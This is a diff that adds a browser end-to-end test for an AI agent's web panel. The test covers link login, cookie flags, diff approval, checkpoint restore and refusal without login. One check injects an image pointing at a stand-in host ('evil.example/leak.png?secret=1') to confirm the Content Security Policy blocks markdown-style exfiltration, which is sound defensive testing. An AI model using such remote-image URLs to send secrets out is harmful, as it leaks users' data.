@@ -1,0 +1,100 @@
+import { existsSync, mkdirSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { chromium, type Browser } from "playwright-core";
+import { repoRoot } from "../../../tests/helpers/service-process.js";
+import { fakeCheckpoint } from "./fake-orchestrator.js";
+import { startHarness, type Harness } from "./gateway-harness.js";
+
+const chromiumPath = "/usr/bin/chromium";
+let h: Harness;
+let browser: Browser;
+
+beforeAll(async () => {
+  if (!existsSync(chromiumPath)) throw new Error("Debian's chromium is missing: apt-get install -y chromium");
+  h = await startHarness({ listen: true });
+  browser = await chromium.launch({
+    executablePath: chromiumPath,
+    headless: true,
+    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"],
+  });
+});
+afterAll(async () => {
+  await browser?.close();
+  await h?.stop();
+});
+
+describe("the web panel in Chromium", () => {
+  it("logs in by link, starts a task, approves the diff, sees the run finish, restores a checkpoint", async () => {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
+    const page = await context.newPage();
+    const problems: string[] = [];
+    page.on("console", (message) => {
+      if (message.type() === "error") problems.push(message.text());
+    });
+    page.on("pageerror", (error) => problems.push(error.message));
+    page.on("response", (response) => {
+      if (response.status() >= 400) problems.push(`${response.status()} ${response.url()}`);
+    });
+
+    await page.goto(`http://127.0.0.1:${h.port}/?token=${h.token}`);
+    expect(page.url()).toBe(`http://127.0.0.1:${h.port}/`);
+    const cookies = await context.cookies();
+    expect(cookies.find((c) => c.name === "aide_session")).toMatchObject({ httpOnly: true, sameSite: "Strict" });
+
+    await page.fill("#task", "Update the README");
+    await page.fill("#workspace", "/tmp/sample-project");
+    await page.click("#start");
+    const card = page.locator(".approval-card");
+    await card.waitFor();
+    await expect.poll(() => card.locator(".diff .add").allTextContents()).toContain("+new line");
+    expect(await card.locator(".diff .del").allTextContents()).toContain("-old line");
+    await expect.poll(() => page.locator("#timeline li").count()).toBe(2);
+    await page.screenshot({ path: screenshotPath(), fullPage: true });
+
+    await card.locator('[data-action="approve"]').click();
+    await page.locator(".transcript .done").waitFor();
+    expect(await page.locator(".transcript .done").textContent()).toContain("Done: README updated");
+    await expect.poll(() => page.locator("#session-state").textContent()).toBe("done");
+    expect(await page.locator(".approval-card").count()).toBe(0);
+    const session = await page.locator("#session-id").textContent();
+    expect(h.orchestrator.decisions.filter((d) => d.session === session && d.accepted)).toHaveLength(1);
+
+    await page.locator(`#timeline li[data-checkpoint="${fakeCheckpoint}"] [data-action="preview"]`).click();
+    await page.locator("#restore-preview").getByText("README.md").waitFor();
+    await page.click('[data-action="confirm-restore"]');
+    await expect.poll(() => page.locator(".restore-status").textContent()).toContain("Restored");
+    expect(h.orchestrator.restores.filter((r) => r.session === session).map((r) => r.dry_run)).toEqual([true, false]);
+    await page.locator(".transcript .checkpoint", { hasText: "restored" }).waitFor();
+
+    // The CSP blocks a remote image (the exfiltration path for a model's markdown).
+    const blocked = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), { once: true });
+          const image = document.createElement("img");
+          image.src = "https://evil.example/leak.png?secret=1";
+          document.body.append(image);
+          setTimeout(() => resolve("none"), 3000);
+        }),
+    );
+    expect(blocked).toBe("img-src");
+    expect(problems.filter((p) => !p.includes("evil.example") && !p.includes("Content Security Policy"))).toEqual([]);
+    await context.close();
+  });
+
+  it("without the login the panel shows the login note, and the API refuses", async () => {
+    const page = await browser.newPage();
+    const response = await page.goto(`http://127.0.0.1:${h.port}/`);
+    expect(response?.status()).toBe(401);
+    expect(await page.textContent("body")).toContain("login link");
+    expect(await page.evaluate(async () => (await fetch("/api/agent/sessions")).status)).toBe(401);
+    await page.close();
+  });
+});
+
+function screenshotPath(): string {
+  const dir = join(repoRoot, "bench", "results");
+  mkdirSync(dir, { recursive: true });
+  return join(dir, "panel.png");
+}
